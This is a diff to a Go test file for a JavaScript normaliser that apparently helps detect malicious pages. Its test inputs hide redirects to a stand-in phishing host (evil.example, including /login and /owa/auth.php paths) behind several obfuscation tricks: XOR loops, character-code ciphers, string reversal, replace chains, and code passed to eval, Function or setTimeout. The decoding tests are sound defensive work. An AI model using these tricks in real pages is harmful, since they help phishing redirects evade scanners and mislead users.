@@ -32,6 +32,37 @@ func TestNormalizeJS(t *testing.T) {
 		{"name = name + literal", "var u = 'https://';\nu = u + 'evil.example';\nu = u + '/p';\nlocation.href = u;", `location.href = "https://evil.example/p"`},
 		{"array held in a variable", "var parts = ['https:', '', 'evil.example', 'p'];\nlocation.href = parts.join('/');", `location.href = "https://evil.example/p"`},
 		{"escaped line break kept", "x = `a\nb` + 'c';", `"a\nbc"`},
+		// values computed from literals
+		{"object properties", `var c={h:"https://",d:"evil"+".example"}; location.href=c.h+c.d+"/login"`, `location.href="https://evil.example/login"`},
+		{"object property by bracket", `var c={"h":'https://evil.example/b', f: function(){ return 1 }}; location.href=c["h"]`, `location.href='https://evil.example/b'`},
+		{"array indexes", `var p=["ht","tps://","ev","il.example"]; form.action=p[0]+p[1]+p[2]+p[3]`, `form.action="https://evil.example"`},
+		{"split, reverse, join", `location = "elpmaxe.live//:sptth".split("").reverse().join("")`, `location = "https://evil.example"`},
+		{"split on a separator", `u = "https:|evil.example|p".split("|").join("/")`, `u = "https:/evil.example/p"`},
+		{"replace chain", `location = "hxxps://evil[.]example".replace("hxxps","https").replace("[.]",".")`, `location = "https://evil.example"`},
+		{"replace junk by a regular expression", `location = "hQtQtQpQsQ:Q/Q/QeQvQiQlQ.QeQxQaQmQpQlQe".replace(/Q/g,"")`, `location = "https://evil.example"`},
+		{"replace with a group", `u = "evil_example".replace(/(\w+)_(\w+)/, "https://$1.$2/")`, `u = "https://evil.example/"`},
+		{"replaceAll", `u = "h-t-t-p-s://evil.example".replaceAll("-", "")`, `u = "https://evil.example"`},
+		{"slice", `location = "https://xyzevil.example".slice(0,8)+"evil.example/a"`, `location = "https://evil.example/a"`},
+		{"substring and substr", `u = "zzhttps://".substring(2) + "..evil.example..".substr(2, 12)`, `u = "https://evil.example"`},
+		{"negative slice", `u = "https://evil.example/p?junk".slice(0, -5)`, `u = "https://evil.example/p"`},
+		{"charAt and index", `u = "xh".charAt(1) + "ttps://evil.example"[0] + "ttps://evil.example".slice(1)`, `u = "https://evil.example"`},
+		{"new URL with a base", `location = new URL("/owa/auth.php", "https://evil.example/x/")`, `location = "https://evil.example/owa/auth.php"`},
+		{"new URL href", `var u = new URL("https://evil.example/x").href; location = u;`, `location = "https://evil.example/x"`},
+		{"shift cipher by map", `var arr=[107,119,119,115,118,61,50,50,104,121,108,111,49,104,123,100,112,115,111,104]; location = String.fromCharCode(...arr.map(c=>c-3))`, `location = "https://evil.example"`},
+		{"fromCharCode apply of a map", `location = String.fromCharCode.apply(null, [105,117,117,113,116].map(function (c) { return c - 1; })) + "://evil.example"`, `location = "https://evil.example"`},
+		{"map to characters, joined", `location = [104,116,116,112,115].map(function(c){return String.fromCharCode(c)}).join("") + "://evil.example"`, `location = "https://evil.example"`},
+		{"map over characters", `u = "iuuqt".split("").map(c => String.fromCharCode(c.charCodeAt(0) - 1)).join("") + "://evil.example"`, `u = "https://evil.example"`},
+		{"constant expressions", `var k = 7; u = String.fromCharCode(0x68 ^ 0, 116, 0x74, 113 - 1, k * 16 + 3)`, `u = "https"`},
+		{"XOR loop over an array", `var a=[95,67,67,71,68,13,24,24,82,65,94,91,25,82,79,86,90,71,91,82], k=55, s=""; for (var i=0;i<a.length;i++){ s += String.fromCharCode(a[i]^k); } location.href=s;`, `location.href="https://evil.example"`},
+		{"XOR loop over a string, repeating key", `var e="\x1b\x11\x17\x02\x16\x4e\x5c\x4a\x06\x04\x0c\x18\x5d\x00\x1b\x13\x08\x04\x1f\x00", key="secret", s=""; for (let i = 0; i < e.length; i++) s = s + String.fromCharCode(e.charCodeAt(i) ^ key.charCodeAt(i % key.length)); top.location = s;`, `top.location = "https://evil.example"`},
+		{"for of loop", `var s = ""; for (const c of [105,117,117,113,116]) { s += String.fromCharCode(c - 1); } u = s + "://evil.example";`, `u = "https://evil.example"`},
+		{"bracketed location", `window["loc"+"ation"]["hr"+"ef"]="https://evil.example/x"`, `window.location.href="https://evil.example/x"`},
+		{"location alias", `var l = window.location; l.href = "https://evil.example/al";`, `location.href = "https://evil.example/al"`},
+		{"top location alias", `const loc = top.location; loc.replace("https://evil.example/t");`, `location.replace("https://evil.example/t")`},
+		{"timer given code", `setTimeout("location='https://evil.example/t'", 100)`, `setTimeout(function(){location='https://evil.example/t'`},
+		{"eval of a literal", `eval("location.replace('https://evil.example/e')")`, "\nlocation.replace('https://evil.example/e')\n"},
+		{"Function of a literal", `new Function("location = 'https://evil.example/f'")();`, "(function(){location = 'https://evil.example/f'\n})();"},
+		{"split then index", `var h = "a,evil.example,b".split(","); u = "https://" + h[1];`, `u = "https://evil.example"`},
 	}
 	for _, c := range cases {
 		if got := NormalizeJS(c.in); !strings.Contains(got, c.want) {
@@ -45,6 +76,28 @@ func TestNormalizeJS(t *testing.T) {
 	// A variable also given a value that is not a literal holds none.
 	if got := NormalizeJS("var u = 'https://a.example';\nu = pick(x);\nlocation.href = u;"); strings.Contains(got, `location.href = 'https`) {
 		t.Errorf("variable with a computed value resolved: %q", got)
+	}
+	// Values changed in place, or computed, are not constants; code that
+	// is not all literals stays as written.
+	for _, c := range []struct{ name, in, keep string }{
+		{"number counted up", "var i = 0; i++; f(i);", "f(i)"},
+		{"array pushed", `var p = ["a","b"]; p.push("c"); g(p[0]);`, "g(p[0])"},
+		{"element set", `var p = ["a","b"]; p[0] = x; g(p[0]);`, "g(p[0])"},
+		{"property set", `var c = {h: "https://a.example"}; c.h = x; location = c.h;`, "location = c.h"},
+		{"object reassigned", `var c = {h: "https://a.example"}; c = other; location = c.h;`, "location = c.h"},
+		{"string appended a computed value", `var s = ""; s += f(x); location = s;`, "location = s"},
+		{"formatting replace", `price = amount.toFixed(2).replace(".", ",");`, `amount.toFixed(2).replace(".", ",")`},
+		{"template replace", `msg = "{n} items".replace("{n}", count);`, `"{n} items".replace("{n}", count)`},
+		{"table loop", `for (var i = 0; i < rows.length; i++) { html += "<tr><td>" + rows[i].name + "</td></tr>"; }`, `html += "<tr><td>" + rows[i].name`},
+		{"loop of a computed array", `for (var i = 0; i < 3; i++) { s += String.fromCharCode(data[i] ^ 5); }`, `String.fromCharCode(data[i] ^ 5)`},
+		{"index of a property", `u = cfg["https://a.example"][0];`, `cfg`},
+		{"regular expression Go reads otherwise", `u = "abcabc".replace(/(a)\1/g, "x");`, `.replace(/(a)\1/g, "x")`},
+		{"replaceAll needs g", `u = "aXbX".replaceAll(/X/, "");`, `.replaceAll(/X/, "")`},
+		{"timer given a function", `setTimeout(go, 100);`, `setTimeout(go, 100)`},
+	} {
+		if got := NormalizeJS(c.in); !strings.Contains(got, c.keep) {
+			t.Errorf("%s: %q lacks %q", c.name, got, c.keep)
+		}
 	}
 	// A variable assigned twice is not a constant.
 	if got := NormalizeJS("var a = 'x';\na = 'y';\nf(a);"); strings.Contains(got, `f("x")`) || strings.Contains(got, `f('x')`) {
@@ -118,6 +171,12 @@ func TestEscapedHandlersAndPrefixedSVG(t *testing.T) {
 func FuzzNormalizeJS(f *testing.F) {
 	f.Add("var a = 'at' + \"ob\"; window[a](String.fromCharCode(65,66)); ['a','b'].join('');")
 	f.Add(`x = "\x4" + '\u12'; var B = window.Blob; new B`)
+	f.Add(`var c={h:"https://",d:"e"+".x"}; location=c.h+c.d; var p=["a","b"]; f(p[1]); "moc".split("").reverse().join("")`)
+	f.Add(`u = "hxxps://a[.]b".replace(/x{2}/g, "$&$1tt").replace("[.]", ".").slice(-3, 9).substr(1, 2).substring(5, 1)`)
+	f.Add(`var a=[95,67], k=55, s=""; for (var i=0;i<a.length;i++){ s += String.fromCharCode(a[i]^k); } for (const c of [1,2]) s += String.fromCharCode(c - 1);`)
+	f.Add(`location = String.fromCharCode(...[1,2].map(c=>(c<<3)>>>1^~c%2)) + String.fromCharCode.apply(null, [3].map(function (c) { return c; }))`)
+	f.Add(`location = new URL("/a", "https://b.example/"); setTimeout("x='y'", 1); eval("z"); new Function("w")(); var l = top.location; l.href = "q";`)
+	f.Add(`[[[[[[1]]]]]].map(x=>((((((((((((((((((x))))))))))))))))))) "s".split("").map(c=>c.charCodeAt()).join(",")`)
 	f.Fuzz(func(t *testing.T, s string) {
 		out := NormalizeJS(s)
 		if len(out) > 64*(len(s)+16) {
@@ -127,19 +186,49 @@ func FuzzNormalizeJS(f *testing.F) {
 	})
 }
 
-// quoteAround gates two expressions of NormalizeJS: wherever one matches,
-// the gate must be open, or the normaliser would skip work it needs.
+// quoteAround and assignsValue gate two expressions of NormalizeJS
+// (jsLitConcat, jsAssign): wherever one matches, its gate must be open,
+// or the normaliser would skip work it needs.
 func FuzzQuoteAroundGates(f *testing.F) {
 	f.Add(`var a = 'x' + "y";`)
 	f.Add("x\n=\t'a'\n")
 	f.Add(`"a"+` + "\v" + `'b'`)
 	f.Add(`a == "b" + c`)
+	f.Add("x\n=\v-0x1F;")
+	f.Add("; a = [1, 'b'])")
 	f.Fuzz(func(t *testing.T, s string) {
 		if jsLitConcat.MatchString(s) && !quoteAround(s, '+', true) {
 			t.Errorf("jsLitConcat matches %q, gate closed", s)
 		}
-		if jsAssign.MatchString(s) && !quoteAround(s, '=', false) {
+		if jsAssign.MatchString(s) && !assignsValue(s) {
 			t.Errorf("jsAssign matches %q, gate closed", s)
+		}
+	})
+}
+
+// FuzzFoldValues: folding spends its budget and stops: out of steps it
+// changes nothing, and with a few it overspends by at most one value's
+// work; what it writes back is bounded by what it read.
+func FuzzFoldValues(f *testing.F) {
+	f.Add(`"moc.x//:sptth".split("").reverse().join("") + [1,2][0] + "abc".replace(/b/g, "$&$&")`)
+	f.Add(`for (var i = 0; i < [1,2,3].length; i++) { s += String.fromCharCode([104,116,116][i] ^ 0); }`)
+	f.Add(`String.fromCharCode(...[105,117].map(c => c - 1)) + new URL("/p", "https://a.example/")`)
+	f.Add(`setTimeout("location='https://a.example/'", 1); eval("x"); new Function("y")()`)
+	f.Fuzz(func(t *testing.T, s string) {
+		if len(s) > 1<<16 {
+			return
+		}
+		none := 0
+		if out := foldValues(s, &none); out != s {
+			t.Fatalf("folded with no steps: %q", out)
+		}
+		steps := 1000
+		out := foldValues(s, &steps)
+		if steps < -4*maxFolded {
+			t.Fatalf("overspent to %d", steps)
+		}
+		if len(out) > 8*(len(s)+16) {
+			t.Fatalf("%d bytes from %d", len(out), len(s))
 		}
 	})
 }
